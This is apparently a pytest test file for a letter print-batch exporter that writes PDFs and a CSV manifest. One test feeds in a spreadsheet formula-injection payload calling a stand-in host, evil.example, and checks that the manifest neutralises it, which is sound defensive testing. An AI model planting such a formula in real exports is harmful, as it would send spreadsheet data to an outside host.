"""Print batches: pending letters exported as PDFs and a manifest, then marked printed.

PDFs are read back with pypdf (pages) and pdftotext (the code on each letter).
"""

from __future__ import annotations

import asyncio
import csv
import errno
import io
import os
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.audit import Actor
from bot.cli.main import main
from bot.db.models import AccessEntry, Invitation, InvitationEvent, Letter, Office, Person
from bot.invitations.codes import code_of, display_code, token_of
from bot.invitations.create import create_invitation
from bot.invitations.follow_up import remind_and_expire
from bot.invitations.letter import letter_content
from bot.invitations.print_batch import (
    export_for_office,
    export_pending,
    reprint,
    reprint_for_office,
    write_batch,
)
from bot.invitations.print_queue import NothingToPrint, UnknownBatch, recent_batches
from bot.invitations.request import InvitationRequest, Personal
from bot.invitations.status import InvitationStatus, LetterStatus
from bot.kernel.postal import PostalAddress
from bot.kernel.types import Channel
from bot.offices.registry import create_office
from bot.runtime.services import Services
from tests.support.cli import lotse
from tests.support.clock import Clock
from tests.support.factories import connect_with_code, readable_by_others
from tests.support.settings import SECRET, STRICT

NAMES = {"ar": "فاطمة الأحمد", "ti": "ተስፋይ ገብረሚካኤል", "de": "Anna Schmidt", "ru": "Ольга Иванова"}
_BIDI_CONTROLS = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def text_of(pdf: bytes) -> str:
    path = shutil.which("pdftotext")
    if path is None:
        if STRICT:
            pytest.fail("pdftotext is missing (Debian: poppler-utils)")
        pytest.skip("pdftotext is missing (Debian: poppler-utils)")
    result = subprocess.run([path, "-", "-"], input=pdf, capture_output=True, check=True)
    return _BIDI_CONTROLS.sub("", result.stdout.decode())


def pages_of(pdf: bytes) -> int:
    return len(PdfReader(io.BytesIO(pdf)).pages)


async def make_office(services: Services, slug: str = "mitte") -> Office:
    async with services.sessionmaker() as session, session.begin():
        office = await create_office(
            session, slug=slug, name=f"Bürgeramt {slug.title()}", street="Karl-Marx-Allee 31",
            postcode="10178", city="Berlin", contact="030 901820",
        )  # fmt: skip
        session.expunge(office)
    return office


async def invite(
    services: Services,
    clock: Clock,
    office: Office,
    language: str,
    reference: str,
    channels: tuple[Channel, ...] = (Channel.LETTER,),
) -> Invitation:
    address = PostalAddress(name=NAMES[language], street="Seestraße 12", postcode="10115",
                      city="Berlin", extra="Zimmer 4")  # fmt: skip
    request = InvitationRequest(
        reference=reference,
        language=language,
        channels=channels,
        personal=Personal(postal_address=address),
        consent_recorded_at=clock(),
        notice_version="2026-11",
    )
    async with services.sessionmaker() as session:
        async with session.begin():
            office = await session.merge(office, load=False)
            invitation, created = await create_invitation(
                session, office=office, request=request, sender=services.invitations, now=clock()
            )
        assert created
        session.expunge(invitation)
    return invitation


async def letters_by_id(services: Services) -> dict[int, Letter]:
    async with services.sessionmaker() as session:
        return {row.id: row for row in await session.scalars(select(Letter))}


async def test_export_writes_letters_merged_pdf_and_manifest_and_marks_them(
    services: Services, clock: Clock, tmp_path: Path
) -> None:
    office = await make_office(services)
    invitations = [
        await invite(services, clock, office, lang, f"REF-{lang}") for lang in ("ar", "ti", "de")
    ]
    clock.advance(hours=1)

    batch = await export_pending(services, office_id=None, now=clock())

    assert batch is not None
    assert re.fullmatch(r"batch-20261123-110000-[0-9a-f]{4}", batch.batch_id)  # Berlin time
    paths = write_batch(batch, tmp_path)
    folder = tmp_path / batch.batch_id
    assert all(path.exists() and path.parent == folder for path in paths)
    raw = (folder / "manifest.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["invitation", "reference", "letter", "pages"]
    letters = await letters_by_id(services)
    expected = [
        [inv.public_id, inv.reference, "invitation", "1" if inv.language == "de" else "2"]
        for inv in invitations
    ]
    assert rows[1:] == expected
    assert pages_of((folder / f"{batch.batch_id}.pdf").read_bytes()) == 5 == batch.pages
    for inv, (public_id, _, _, pages) in zip(invitations, expected, strict=True):
        pdf = (folder / f"letter-{public_id}.pdf").read_bytes()
        assert pages_of(pdf) == int(pages)
        assert display_code(code_of(services.vault, inv)) in text_of(pdf)
    german = next(inv.id for inv in invitations if inv.language == "de")
    for row in letters.values():
        assert (row.status, row.batch, row.printed_at) == ("printed", batch.batch_id, clock())
        assert row.pages == (1 if row.invitation_id == german else 2)

    async with services.sessionmaker() as session:
        for inv in invitations:
            stored = await session.get(Invitation, inv.id)
            assert stored is not None
            assert (stored.status, stored.sent_at) == (InvitationStatus.SENT.value, clock())
            events = await session.scalars(
                select(InvitationEvent).where(
                    InvitationEvent.invitation_id == inv.id, InvitationEvent.status == "sent"
                )
            )
            assert [e.detail for e in events] == ["letter handed to print"]
        log = (await session.scalars(select(AccessEntry).order_by(AccessEntry.id))).all()
    # One entry per letter printed: its address, name and code were read.
    assert [(a.role, a.actor, a.action, a.office_id, a.invitation_id) for a in log] == [
        ("operator", "cli", "letters.export", None, inv.id) for inv in invitations
    ]
    assert {(a.detail, tuple(a.categories)) for a in log} == {
        (f"batch {batch.batch_id}", ("postal-address", "name", "code", "language"))
    }
    assert await export_pending(services, office_id=None, now=clock()) is None


async def test_a_letter_cancelled_before_the_export_is_left_out(
    services: Services, clock: Clock
) -> None:
    office = await make_office(services)
    kept = await invite(services, clock, office, "de", "KEPT")
    gone = await invite(services, clock, office, "de", "GONE")
    async with services.sessionmaker() as session, session.begin():
        # The person connected with the code from the web chat: the letter is cancelled.
        await connect_with_code(
            session, services.vault, code_of(services.vault, gone), await _person(session), clock()
        )

    batch = await export_pending(services, office_id=None, now=clock())

    assert batch is not None
    assert [item.reference for item in batch.letters] == ["KEPT"]
    letters = await letters_by_id(services)
    statuses = {row.invitation_id: row.status for row in letters.values()}
    assert statuses == {kept.id: "printed", gone.id: LetterStatus.CANCELLED.value}


async def test_a_letter_cancelled_while_rendering_is_left_out_of_the_files(
    services: Services, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    office = await make_office(services)
    kept = await invite(services, clock, office, "ar", "KEPT")
    gone = await invite(services, clock, office, "ti", "GONE")
    from bot.invitations import letter

    render = letter.render_batch

    def render_then_connect(*args: object, **kwargs: object) -> tuple[bytes, list[int]]:
        result = render(*args, **kwargs)  # type: ignore[arg-type]

        async def meanwhile() -> None:
            async with services.sessionmaker() as session, session.begin():
                person = await _person(session)
                await connect_with_code(
                    session, services.vault, code_of(services.vault, gone), person, clock()
                )

        asyncio.run_coroutine_threadsafe(meanwhile(), loop).result()
        return result

    loop = asyncio.get_running_loop()
    monkeypatch.setattr(letter, "render_batch", render_then_connect)

    batch = await export_pending(services, office_id=None, now=clock())

    assert batch is not None
    assert [(item.reference, item.pages) for item in batch.letters] == [("KEPT", 2)]
    assert pages_of(batch.merged_pdf) == 2
    text = text_of(batch.merged_pdf)
    assert (
        display_code(code_of(services.vault, kept)) in text
        and display_code(code_of(services.vault, gone)) not in text
    )
    async with services.sessionmaker() as session:
        stored = await session.get(Invitation, gone.id)
        assert stored is not None and stored.status == InvitationStatus.CONNECTED.value
        events = await session.scalar(
            select(func.count()).where(
                InvitationEvent.invitation_id == gone.id, InvitationEvent.status == "sent"
            )
        )
    assert events == 0


async def test_a_reference_that_a_spreadsheet_would_run_is_written_as_text(
    services: Services, clock: Clock, tmp_path: Path
) -> None:
    office = await make_office(services)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    invitation = await invite(services, clock, office, "de", hostile)

    batch = await export_pending(services, office_id=None, now=clock())

    assert batch is not None
    write_batch(batch, tmp_path)
    raw = (tmp_path / batch.batch_id / "manifest.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    assert rows[1] == [invitation.public_id, "'" + hostile, "invitation", "1"]


async def test_office_filter_and_office_download(services: Services, clock: Clock) -> None:
    mitte = await make_office(services, "mitte")
    pankow = await make_office(services, "pankow")
    ours = await invite(services, clock, mitte, "de", "M-1")
    theirs = await invite(services, clock, pankow, "ru", "P-1")

    staff = Actor.staff(mitte.id, 7)
    archive, name = await export_for_office(services, mitte, clock(), actor=staff)

    batch_id = name.removesuffix(".zip")
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        letters = await letters_by_id(services)
        assert sorted(files.namelist()) == sorted(
            [f"{batch_id}/letter-{ours.public_id}.pdf", f"{batch_id}/{batch_id}.pdf",
             f"{batch_id}/manifest.csv"]
        )  # fmt: skip
        manifest = files.read(f"{batch_id}/manifest.csv").decode("utf-8-sig")
    assert manifest.splitlines()[1] == f"{ours.public_id};M-1;invitation;1"
    theirs_letter = next(r for r in letters.values() if r.invitation_id == theirs.id)
    assert theirs_letter.status == LetterStatus.PENDING.value
    with pytest.raises(NothingToPrint):
        await export_for_office(services, mitte, clock(), actor=staff)
    async with services.sessionmaker() as session:
        log = (await session.scalars(select(AccessEntry))).all()
    assert [(a.role, a.actor, a.office_id, a.invitation_id) for a in log] == [
        ("office-staff", "user:7", mitte.id, ours.id)
    ]


async def test_the_qr_code_carries_the_telegram_link_when_the_invitation_went_so(
    services: Services, clock: Clock
) -> None:
    office = await make_office(services)
    plain = await invite(services, clock, office, "de", "PLAIN")
    services.settings = services.settings.model_copy(update={"telegram_bot_username": "lotse_bot"})
    services.invitations.settings = services.settings
    telegram = await invite(services, clock, office, "ar", "TG", (Channel.TELEGRAM,))
    assert telegram.sent_note is not None and "Telegram" in telegram.sent_note

    async with services.sessionmaker() as session:
        stored_office = await session.get(Office, office.id)
        assert stored_office is not None
        contents = {}
        for inv in (plain, telegram):
            stored = await session.get(Invitation, inv.id)
            assert stored is not None
            contents[inv.reference] = letter_content(services, stored, stored_office)

    base = services.settings.public_url
    tg, de = contents["TG"], contents["PLAIN"]
    assert tg is not None and de is not None
    assert tg.qr_url == f"https://t.me/lotse_bot?start={token_of(services.vault, telegram)}"
    assert de.qr_url == f"{base}/chat?t={token_of(services.vault, plain)}"
    assert de.chat_url == f"{base}/chat"
    assert de.code == display_code(code_of(services.vault, plain))
    assert de.sms_number is None  # no SMS number configured: the SMS step is left out
    assert (de.recipient.name, de.recipient.extra) == ("Anna Schmidt", "Zimmer 4")
    assert (de.sender.office_name, de.sender.contact) == ("Bürgeramt Mitte", "030 901820")
    assert de.expires_on.isoformat() == "2026-12-23"
    with_sms = replace(services, settings=services.settings.model_copy(
        update={"invitation_sms_number": "+4930123456"}))  # fmt: skip
    async with services.sessionmaker() as session:
        stored = await session.get(Invitation, plain.id)
        stored_office = await session.get(Office, office.id)
        assert stored is not None and stored_office is not None
        content = letter_content(with_sms, stored, stored_office)
    assert content is not None and content.sms_number == "+4930123456"


async def test_cli_exports_then_finds_nothing(
    services: Services, clock: Clock, tmp_path: Path
) -> None:
    office = await make_office(services)
    await invite(services, clock, office, "de", "CLI-1")
    await invite(services, clock, office, "ar", "CLI-2")
    env = {
        "LOTSE_DATABASE_URL": services.settings.database_url,
        "LOTSE_DATA_DIR": str(tmp_path),
        "LOTSE_SECRET_KEY": SECRET,
    }
    out = tmp_path / "print"

    unknown = await asyncio.to_thread(
        lotse, "letters", "export", "--out", str(out), "--office", "nope", cwd=tmp_path, env=env
    )
    assert unknown.returncode == 2 and "no office 'nope'" in unknown.stderr
    done = await asyncio.to_thread(
        lotse, "letters", "export", "--out", str(out), "--office", "mitte", cwd=tmp_path, env=env
    )

    assert done.returncode == 0, done.stderr
    (folder,) = out.iterdir()
    assert done.stdout.strip() == f"{folder}: 2 letters, 3 pages"
    assert len(list(folder.glob("letter-*.pdf"))) == 2
    assert readable_by_others(out) == []  # names and addresses: Lotse's account only
    again = await asyncio.to_thread(
        lotse, "letters", "export", "--out", str(out), cwd=tmp_path, env=env
    )
    assert (again.returncode, again.stdout.strip()) == (0, "no letters to print")


async def test_a_batch_is_written_again_by_its_id_as_far_as_still_open(
    services: Services, clock: Clock
) -> None:
    mitte = await make_office(services, "mitte")
    pankow = await make_office(services, "pankow")
    kept = await invite(services, clock, mitte, "ar", "KEPT")
    gone = await invite(services, clock, mitte, "de", "GONE")
    await invite(services, clock, pankow, "ru", "THEIRS")
    first = await export_pending(services, office_id=mitte.id, now=clock())
    assert first is not None
    async with services.sessionmaker() as session, session.begin():
        await connect_with_code(
            session, services.vault, code_of(services.vault, gone), await _person(session), clock()
        )
    before = await letters_by_id(services)
    clock.advance(hours=2)

    staff = Actor.staff(mitte.id, 7)
    again = await reprint(services, first.batch_id, office_id=mitte.id, now=clock(), actor=staff)

    assert again.batch_id == first.batch_id
    assert [(item.reference, item.pages) for item in again.letters] == [("KEPT", 2)]
    assert again.unavailable == (gone.public_id,)
    assert display_code(code_of(services.vault, kept)) in text_of(again.merged_pdf)
    assert pages_of(again.merged_pdf) == 2
    after = await letters_by_id(services)  # statuses, batch and times untouched
    assert [(r.status, r.batch, r.printed_at) for r in after.values()] == [
        (r.status, r.batch, r.printed_at) for r in before.values()
    ]
    async with services.sessionmaker() as session:
        log = [
            (a.actor, a.action, a.invitation_id, a.person_id, a.detail)
            for a in await session.scalars(select(AccessEntry).order_by(AccessEntry.id))
        ]
        summaries = await recent_batches(session, mitte.id)
        assert await recent_batches(session, pankow.id) == []
    # Only the letter rendered again was read (the connected one's address is gone).
    assert log[-1:] == [
        ("user:7", "letters.reprint", kept.id, None, f"batch {first.batch_id} again")
    ]
    [summary] = summaries
    assert (summary.batch_id, summary.letters, summary.pages) == (first.batch_id, 2, 3)

    # Another office cannot fetch the batch, and an unknown id is said to be unknown.
    with pytest.raises(UnknownBatch):
        await reprint_for_office(services, pankow, first.batch_id, clock(), actor=staff)
    with pytest.raises(UnknownBatch):
        await reprint(services, "batch-nope", office_id=None, now=clock())
    # Once no letter of the batch can be rendered, the reprint says so.
    async with services.sessionmaker() as session, session.begin():
        await connect_with_code(
            session, services.vault, code_of(services.vault, kept), await _person(session), clock()
        )
    with pytest.raises(NothingToPrint):
        await reprint(services, first.batch_id, office_id=mitte.id, now=clock())
    async with services.sessionmaker() as session:  # nothing was read: no entry
        assert await session.scalar(select(func.count()).select_from(AccessEntry)) == len(log)


async def test_a_reminder_letter_says_it_is_a_reminder(services: Services, clock: Clock) -> None:
    office = await make_office(services)
    await invite(services, clock, office, "ru", "REMIND")
    first = await export_pending(services, office_id=None, now=clock())
    assert first is not None
    clock.advance(days=services.settings.invitation_reminder_days, hours=1)
    await remind_and_expire(services.sessionmaker, services.invitations, clock())

    reminder = await export_pending(services, office_id=None, now=clock())

    assert reminder is not None and [i.reference for i in reminder.letters] == ["REMIND"]
    ru, de = services.catalogs["ru"], services.catalogs["de"]
    first_text, reminder_text = text_of(first.merged_pdf), text_of(reminder.merged_pdf)
    for catalog in (ru, de):
        subject = catalog.gettext("Reminder: invitation to free advice in your language")
        assert subject in reminder_text and subject not in first_text
    assert ru.gettext("Invitation to free advice in your language") in first_text


async def test_cli_writes_a_batch_again_after_the_disk_was_full(
    services: Services,
    clock: Clock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    office = await make_office(services)
    await invite(services, clock, office, "ti", "DISK-1")
    monkeypatch.setenv("LOTSE_DATABASE_URL", services.settings.database_url)
    monkeypatch.setenv("LOTSE_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("LOTSE_SECRET_KEY", SECRET)
    out = tmp_path / "print"
    write_bytes = Path.write_bytes

    def disk_full(path: Path, data: bytes) -> int:  # the operating system's answer
        if out in path.parents:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return write_bytes(path, data)

    with monkeypatch.context() as patched:
        patched.setattr(Path, "write_bytes", disk_full)
        with pytest.raises(SystemExit) as stopped:
            await asyncio.to_thread(main, ["letters", "export", "--out", str(out)])
    assert stopped.value.code == 2
    error = capsys.readouterr().err
    [batch_id] = re.findall(r"--batch (batch-[\w-]+) ", error)
    assert "No space left on device" in error and "marked printed" in error
    [row] = (await letters_by_id(services)).values()
    assert (row.status, row.batch) == ("printed", batch_id)

    await asyncio.to_thread(main, ["letters", "export", "--batch", batch_id, "--out", str(out)])

    assert capsys.readouterr().out.strip() == f"{out / batch_id}: 1 letters, 2 pages"
    assert "DISK-1" in (out / batch_id / "manifest.csv").read_text(encoding="utf-8-sig")
    assert pages_of((out / batch_id / f"{batch_id}.pdf").read_bytes()) == 2
    with pytest.raises(SystemExit):
        await asyncio.to_thread(
            main, ["letters", "export", "--batch", "batch-x", "--out", str(out)]
        )
    assert "no printed letters in batch 'batch-x'" in capsys.readouterr().err


async def _person(session: AsyncSession) -> int:
    person = Person(language="de")
    session.add(person)
    await session.flush()
    return person.id


def test_the_cli_knows_the_command() -> None:
    from bot.cli.main import parser

    args = parser().parse_args(["letters", "export", "--out", "x", "--office", "mitte"])
    assert (args.out, args.office) == (Path("x"), "mitte")
